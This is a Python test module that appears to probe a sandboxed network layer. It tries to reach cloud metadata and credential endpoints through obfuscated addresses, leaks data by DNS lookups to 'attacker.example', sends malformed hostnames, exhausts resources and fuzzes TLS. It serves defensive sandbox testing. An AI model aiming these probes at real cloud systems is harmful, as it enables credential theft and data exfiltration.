"""Attacks on a door that is open a little: `event` names one. Each gives up quietly, so that only what the host saw tells."""

import os
import random
import socket
import ssl
import threading
import urllib.request

import _wasmlam_net as door


def quietly(function, *arguments):
    try:
        return function(*arguments)
    except (OSError, ValueError, OverflowError):
        return None


def connect(host, port=80):
    def attack():
        for family, kind, proto, _, address in quietly(socket.getaddrinfo, host, port, 0, socket.SOCK_STREAM) or []:
            quietly(socket.socket(family, kind, proto).connect, address)

    return attack


def send(host, port=53):
    return lambda: quietly(socket.socket(type=socket.SOCK_DGRAM).sendto, b"x", (host, port))


def fetch(url):
    return lambda: quietly(urllib.request.urlopen, url)


def through_a_proxy():
    os.environ["http_proxy"] = "http://127.0.0.1:3128"
    quietly(urllib.request.urlopen, "http://allowed.test/")


def lying_resolver():
    socket.getaddrinfo = lambda *_: [(socket.AF_INET, socket.SOCK_STREAM, 6, "", ("169.254.169.254", 80))]
    quietly(socket.create_connection, ("allowed.test", 80))


def leak_by_name():
    for part in range(100):
        quietly(socket.gethostbyname, f"secret-{part}.attacker.example")


def names():
    for name in ("a\0b.test", "a b.test", "../../etc.test", "x" * 300 + ".test", "\u202eevil.test", "ä" * 100, "-.-.test..", "%s%n.test"):
        quietly(socket.getaddrinfo, name, 80)
    quietly(socket.gethostbyname, "not-allowed.example")


def listen():
    quietly(socket.create_server, ("0.0.0.0", 8080))


def listen_on_any_port():
    with socket.socket() as s:
        quietly(s.bind, ("127.0.0.1", 0))
        quietly(s.listen)


def bind_name_server():
    quietly(socket.socket(type=socket.SOCK_DGRAM).bind, ("0.0.0.0", 53))


def refused_endlessly():
    for i in range(2_000):
        quietly(socket.socket().connect_ex, (f"10.{i >> 8 & 255}.{i & 255}.1", 80))


def noise():
    """Every operation with arguments that make no sense."""
    random.seed(1)
    numbers = [0, 1, -1, 2, 7, 80, 443, 2**31 - 1, -2**31, 2**63 - 1, -2**63, 1 << 32, 6 << 32 | 1]
    for _ in range(20_000):
        op, handle = random.randrange(-1, 50), random.choice([0, 1, 2, 3, -1, 2**31 - 1, -2**31])
        data = random.randbytes(random.choice([0, 1, 4, 16, 17, 100]))
        door.call(op, handle, random.choice(numbers), random.choice(numbers), data)
        door.fetch(op, handle, random.choice(numbers), random.choice(numbers), data, random.choice([0, 1, 100, 70_000]))


def guess_handles():
    for handle in range(-1000, 5000):
        for op in (7, 8, 13, 35, 36):
            door.fetch(op, handle, 0, 0, b"", 100)


def wait_for_nothing():
    door.wait([(handle, 5) for handle in range(4096)], 0)
    quietly(door.wait, [(1, 1)] * 5000, 1)
    door.wait([(-1, 65535), (2**31 - 1, 1)], 0)


def wait_in_vain():
    a, b = socket.socketpair()
    a.recv(1)


def wait_for_a_connection():
    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        s.listen()
        s.accept()


def wait_in_threads():
    def wait():
        with socket.socket() as s:
            s.bind(("127.0.0.1", 0))
            s.listen()
            s.accept()

    for _ in range(200):
        threading.Thread(target=wait).start()
    wait()


def sockets():
    held = []
    for _ in range(100_000):
        s = socket.socket()
        if quietly(s.bind, ("127.0.0.1", 0)) is None:
            held.append(s)
            if len(held) > 2000:
                break
    raise RuntimeError("bounded")


def half_open():
    held = [socket.socket() for _ in range(5000)]
    for s in held:
        s.setblocking(False)
        s.connect_ex(("127.0.0.1", 9))
    raise RuntimeError("bounded")


def contexts():
    junk = b'{"server": false, "cas": ["' + b"A" * 3_000_000 + b'"], "default_roots": false, "verify": 2, "check_hostname": true, "alpn": [], "min": 771, "max": 772, "chain": [], "key": null}'
    for _ in range(100):
        door.call(32, 0, 0, 0, junk)
    raise RuntimeError("bounded")


def nested_settings():
    for text in (b"[" * 1_000_000, b'{"server":' * 10_000, b"{}", b"\xff" * 100, b'{"cas": [' + b'"",' * 500_000 + b'""]}'):
        door.call(32, 0, 0, 0, text)
    raise RuntimeError("refused")


def certificates():
    for data in (b"\x30\x80" * 1000, b"\x30\x84\xff\xff\xff\xff", b"\x30" * 60_000, bytes(60_000)):
        door.fetch(41, 0, 0, 0, data, 1000)
    random.seed(2)
    for _ in range(2000):
        door.fetch(41, 0, 0, 0, b"\x30\x82\x01\x00" + random.randbytes(256), 1000)
    raise RuntimeError("refused")


def session_noise():
    """A session in memory, whose peer says what it likes."""
    random.seed(3)
    context = ssl.create_default_context()
    for _ in range(100):
        incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
        session = context.wrap_bio(incoming, outgoing, server_hostname="allowed.test")
        incoming.write(random.choice([b"\x16\x03\x01", b"\x15\x03\x03\x00\x02", b"HTTP/1.1 200", b""]) + random.randbytes(1000))
        for step in (session.do_handshake, lambda: session.read(100), lambda: session.write(b"x"), session.unwrap):
            quietly(step)
    raise RuntimeError("refused")


def feed():
    """More for a session than it takes."""
    context = ssl.create_default_context()
    incoming, outgoing = ssl.MemoryBIO(), ssl.MemoryBIO()
    session = context.wrap_bio(incoming, outgoing, server_hostname="allowed.test")
    handle = session._sslobj._handle
    taken = sum(max(door.call(38, handle, 0, 0, b"\x16" * 1_000_000), 0) for _ in range(100))
    if taken > 1 << 20:
        return "unbounded"
    raise RuntimeError("bounded")


def crossed():
    """A socket as a session, a session as a socket, a context as both."""
    s = socket.socket()
    quietly(s.bind, ("127.0.0.1", 0))
    context = ssl.create_default_context()._handle(False)
    handles = [s._end.handle, context, door.call(33, context, s._end.handle, 0, b"allowed.test"), door.call(33, context, 0, 0, b"allowed.test")]
    for op in range(50):
        for handle in handles:
            for other in handles:
                if op not in (12,):
                    door.fetch(op, handle, other, 0, b"x", 100)
    raise RuntimeError("refused")


ATTACKS = {
    "decimal": connect("2852039166"), "octal": connect("0251.0376.0251.0376"), "hexadecimal": connect("0xa9fea9fe"),
    "short": connect("169.254.43518"), "dot": connect("169.254.169.254."), "plain": connect("169.254.169.254"),
    "mapped": connect("::ffff:169.254.169.254"), "mapped in hexadecimal": connect("::ffff:a9fe:a9fe"), "compatible": connect("::169.254.169.254"),
    "NAT64": connect("64:ff9b::a9fe:a9fe"), "6to4": connect("2002:a9fe:a9fe::1"), "IPv6 metadata": connect("fd00:ec2::254"),
    "container": fetch("http://169.254.170.2/v2/credentials"), "pod": fetch("http://169.254.170.23/v1/credentials"),
    "Azure": fetch("http://168.63.129.16/machine?comp=goalstate"), "localhost": connect("localhost", 22), "127.1": connect("127.1", 22),
    "zero": connect("0", 22), "::1": connect("::1", 22), "loopback mapped": connect("::ffff:127.0.0.1", 22),
    "10/8": connect("10.0.0.1"), "172.16/12": connect("172.31.255.254"), "192.168/16": connect("192.168.0.1"),
    "100.64/10": connect("100.100.100.200"), "fe80": connect("fe80::1"), "multicast": send("224.0.0.251", 5353),
    "broadcast": send("255.255.255.255", 67), "datagram to metadata": send("169.254.169.254"),
    "through a proxy": through_a_proxy, "lying resolver": lying_resolver, "leak by name": leak_by_name, "names": names,
    "listen": listen, "listen on any port": listen_on_any_port, "name server": bind_name_server, "refused endlessly": refused_endlessly,
    "noise": noise, "guess handles": guess_handles, "wait for nothing": wait_for_nothing, "wait in vain": wait_in_vain,
    "wait for a connection": wait_for_a_connection, "wait in threads": wait_in_threads, "sockets": sockets, "half-open": half_open,
    "contexts": contexts, "nested settings": nested_settings, "certificates": certificates, "session noise": session_noise, "feed": feed,
    "crossed": crossed,
}


def handler(event, context):
    return ATTACKS[event]()
